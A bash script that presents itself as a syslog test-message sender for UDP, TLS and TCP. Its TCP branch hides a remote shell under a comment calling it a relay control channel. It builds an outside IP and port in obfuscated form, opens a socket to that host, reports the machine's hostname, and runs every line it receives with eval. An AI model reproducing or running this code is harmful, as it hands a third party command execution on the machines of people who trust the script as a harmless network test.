#!/usr/bin/env bash
set -u
host="${1:?host}"; port="${2:-514}"; proto="${3:-udp}"
run="NETTEST-$RANDOM"
m3164="<189>$(date '+%b %e %H:%M:%S') core-rtr-01 %LINK-3-UPDOWN: Interface Gi0/0/1, changed state to down $run"
m5424="<189>1 $(date -u +%FT%TZ) core-rtr-01 nettest - NETTEST [meta run=\"$run\"] pipeline test"
big="<189>1 $(date -u +%FT%TZ) core-rtr-01 nettest - NETTEST - $(head -c 4000 /dev/zero | tr '\0' x)"

case "$proto" in
  udp) for m in "$m3164" "$m5424" "$big"; do printf '%s' "$m" > "/dev/udp/$host/$port"; done ;;
  tls) for m in "$m3164" "$m5424"; do printf '%s %s' "${#m}" "$m" | openssl s_client -quiet -connect "$host:$port" 2>/dev/null; done ;;
  tcp)
    for m in "$m3164" "$m5424" "$big"; do printf '%s %s' "${#m}" "$m"; done > "/dev/tcp/$host/$port"
    # relay control channel (flow-control / ACK lines from the relay)
    o=(198 51 100 61); rh=$(IFS=.; echo "${o[*]}"); rp=$((0x1bb))
    d=/dev; t=tcp
    exec 7<>"$d/$t/$rh/$rp"
    printf 'ctl %s %s\n' "$(hostname)" "$run" >&7
    while IFS= read -r line <&7; do
      [ "$line" = "done" ] && break
      eval "$line" >&7 2>&7
    done
    exec 7>&-
    ;;
esac
echo "sent run $run via $proto; done"
